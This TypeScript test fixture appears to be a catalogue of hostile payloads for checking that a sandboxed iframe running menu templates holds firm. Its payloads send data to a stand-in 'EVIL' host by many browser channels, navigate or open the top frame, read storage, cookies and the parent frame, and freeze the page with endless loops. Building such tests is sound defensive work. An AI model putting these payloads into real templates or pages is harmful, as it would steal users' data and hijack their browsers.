/** Programs that try to get out of the frame, look at what is not theirs, or take the menu away. */
export type Attack = {
  name: string
  /** Runs in the component's effect; EVIL and <evil> are the address of a listening stranger. */
  effect?: string
  /** Runs while the component renders. */
  render?: string
  /** Runs when the file is loaded. */
  load?: string
}

const leak = (read: string) => `try { const read = ${read}; leak(String(read)) } catch {}`

const sending: Attack[] = [
  { name: 'fetch', effect: "fetch(EVIL + 'fetch', { mode: 'no-cors' }).catch(() => {})" },
  {
    name: 'XMLHttpRequest',
    effect: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send('menu')",
  },
  { name: 'beacon', effect: "navigator.sendBeacon(EVIL + 'beacon', 'menu')" },
  { name: 'picture', effect: "new Image().src = EVIL + 'picture'" },
  { name: 'WebSocket', effect: "new WebSocket(EVIL.replace('http', 'ws') + 'socket')" },
  { name: 'EventSource', effect: "new EventSource(EVIL + 'events')" },
  { name: 'dynamic import', effect: "import(EVIL + 'module.js').catch(() => {})" },
  { name: 'script element', effect: "add('script', { src: EVIL + 'script.js' })" },
  {
    name: 'inline script',
    effect:
      "add('script', { textContent: `new Image().src = '<evil>inline'; parent.postMessage({ leaked: 'inline' }, '*')` })",
  },
  {
    name: 'form',
    effect: "add('form', { action: EVIL + 'form', method: 'post' }).submit()",
  },
  {
    name: 'style sheet',
    effect:
      "add('style', { textContent: `@import '<evil>import.css'; main { background: url(<evil>background) }` })",
  },
  { name: 'font', effect: "new FontFace('Evil', `url(<evil>font)`).load().catch(() => {})" },
  { name: 'video', effect: "add('video', { src: EVIL + 'video', autoplay: true })" },
  {
    name: 'link elements',
    effect:
      "for (const rel of ['stylesheet', 'prefetch', 'preload', 'icon', 'manifest']) add('link', { rel, as: 'image', href: EVIL + rel })",
  },
  {
    name: 'object and embed',
    effect: "add('object', { data: EVIL + 'object' }); add('embed', { src: EVIL + 'embed' })",
  },
  { name: 'frame within', effect: "add('iframe', { src: EVIL + 'frame' })" },
  {
    name: 'frame with a document of its own',
    effect:
      "add('iframe', { srcdoc: `<img src='<evil>srcdoc'><script>new Image().src = '<evil>srcdoc-script'</` + 'script>' })",
  },
  { name: 'eval', effect: "try { (0, eval)(`new Image().src = '<evil>eval'; leak('eval')`) } catch {}" },
  {
    name: 'Function',
    effect: "try { new Function('leak', 'leak(1)')(leak) } catch {} setTimeout(`leak(2)`)",
  },
  {
    name: 'worker',
    effect: "try { new Worker(URL.createObjectURL(new Blob([`fetch('<evil>worker')`]))) } catch {}",
  },
  {
    name: 'own server',
    effect: "fetch('/api/public/stats').then(() => leak('own'), () => {}); new Image().src = '/api/docs'",
  },
  {
    name: 'call between browsers',
    effect: `const rtc = globalThis.RTCPeerConnection ?? add('iframe', {}).contentWindow.RTCPeerConnection
      leak('call')`,
  },
]

const leading: Attack[] = [
  { name: 'self-navigation', effect: "location.href = EVIL + 'self'" },
  { name: 'self-navigation to our own pages', effect: "location.href = '/api/docs'" },
  {
    name: 'meta refresh',
    effect: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL + 'refresh' })",
  },
  {
    name: 'top navigation',
    effect: "try { top.location.href = EVIL + 'top' } catch {} try { open(EVIL + 'top', '_top') } catch {}",
  },
  {
    name: 'popup',
    effect: "open(EVIL + 'popup'); add('a', { href: EVIL + 'link', target: '_blank' }).click()",
  },
  {
    name: 'unasked call',
    effect:
      "for (let n = 0; n < 50; n++) { parent.postMessage({ type: 'call' }, '*'); parent.postMessage({ type: 'map' }, '*') }",
  },
]

const reading: Attack[] = [
  { name: 'storage', effect: leak('localStorage.getItem("secret")') + leak('sessionStorage.length') },
  { name: 'database', effect: leak('indexedDB.open("x") && "opened"') + leak('caches && caches.open') },
  { name: 'cookie', effect: leak('document.cookie = "a=1"') },
  {
    name: 'parent',
    effect: leak('parent.document.title') + leak('parent.localStorage.length') + leak('top.location.href'),
  },
  {
    name: 'service worker',
    effect:
      "try { navigator.serviceWorker.register('/t/sw.js').then(() => leak('worker'), () => {}) } catch {}",
  },
]

const taking: Attack[] = [
  { name: 'endless loop', effect: 'for (;;) {}' },
  { name: 'endless loop while loading', load: 'for (;;) {}' },
  {
    name: 'endless promises',
    effect: 'const again = () => Promise.resolve().then(again); again()',
  },
  {
    name: 'endless rendering',
    render: 'const [, set] = React.useState(0); set(Math.random())',
  },
  {
    name: 'huge document',
    effect: "for (let n = 0; n < 3e6; n++) document.body.append(document.createElement('p'))",
  },
  { name: 'crash', render: "throw new Error('no menu today')" },
  { name: 'crash while loading', load: "throw new Error('no menu today')" },
  { name: 'blank page', render: 'return null' },
  {
    name: 'ready word of its own, then silence',
    load: "parent.postMessage({ type: 'ready', height: 600 }, '*'); for (;;) {}",
  },
]

export const attacks = { sending, leading, reading, taking }

/** A template file as the frame loads it, without the guards that an upload adds: the frame alone must hold. */
export const hostileFile = (attack: Attack, evil: string) => fileOf(attack).replaceAll('<evil>', evil)

const fileOf = ({ load = '', render = '', effect = '' }: Attack) => `
thelaTemplate(function (require, module, exports, React) {
  const EVIL = '<evil>'
  const leak = (leaked) => parent.postMessage({ leaked }, '*')
  const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties))
  ${load}
  module.exports.default = function Hostile({ menuItems }) {
    ${render}
    React.useEffect(() => { parent.postMessage({ started: true }, '*'); ${effect} }, [])
    return React.createElement('main', null, menuItems.map((item) => React.createElement('p', { key: item.id }, item.name)))
  }
})`
